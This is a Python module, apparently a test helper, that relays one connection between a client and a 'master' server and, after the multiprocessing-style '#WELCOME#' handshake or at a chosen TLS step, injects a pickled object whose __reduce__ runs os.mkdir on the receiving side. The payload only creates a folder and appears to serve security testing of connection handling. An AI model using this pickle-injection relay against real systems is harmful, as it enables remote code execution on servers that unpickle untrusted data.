"""Somebody between a client and a master: lets the handshake through, then adds a message.

Works on the bytes that pass, so that it can be tried on any connection: on a plain one it knows
when the handshake is over, on an encrypted one it tries at every step.
"""

from __future__ import annotations

import os
import pickle
import selectors
import socket
import struct
import threading
from pathlib import Path

WELCOME = b"#WELCOME#"  # how the standard library's handshake ends, in each direction


class Bomb:
    """What makes a folder where it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (os.fspath(self.path),)


def framed(message: bytes) -> bytes:
    """As it would come from a client."""
    return struct.pack("!i", len(message)) + message


def record(data: bytes) -> bytes:
    """The same, made up as a TLS record of application data."""
    return b"\x17\x03\x03" + struct.pack("!H", len(data)) + data


class Relay:
    """Stands between a client and `target` for one connection.

    Args:
        target: host and port of the master.
        bomb: what its message makes where it is unpickled.
        step: with TLS, the chunk of the client's after which the message is put in.
    """

    def __init__(self, target: tuple[str, int], bomb: Path, step: int = 0) -> None:
        self._target = target
        self._message = framed(pickle.dumps(Bomb(bomb)))
        self._step = step
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address: tuple[str, int] = self._listener.getsockname()
        self.injected = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def __enter__(self) -> Relay:
        return self

    def __exit__(self, *exc: object) -> None:
        self._listener.close()
        self._thread.join(10)

    def _run(self) -> None:
        client, _ = self._listener.accept()
        server = socket.create_connection(self._target)
        with client, server, selectors.DefaultSelector() as selector:
            selector.register(client, selectors.EVENT_READ, server)
            selector.register(server, selectors.EVENT_READ, client)
            try:
                self._pass_on(selector, client)
            except OSError:
                pass  # one of the two has had enough

    def _pass_on(self, selector: selectors.BaseSelector, client: socket.socket) -> None:
        chunks = 0
        while True:
            for key, _ in selector.select(10):
                data = key.fileobj.recv(1 << 16)  # type: ignore[union-attr]
                if not data:
                    return
                key.data.sendall(data)
                if key.fileobj is client and not self.injected:
                    chunks += 1
                    self._inject(key.data, data, chunks)

    def _inject(self, server: socket.socket, data: bytes, chunks: int) -> None:
        if WELCOME in data:
            server.sendall(self._message)
        elif self._step and chunks == self._step:
            server.sendall(record(self._message))
        else:
            return
        self.injected = True
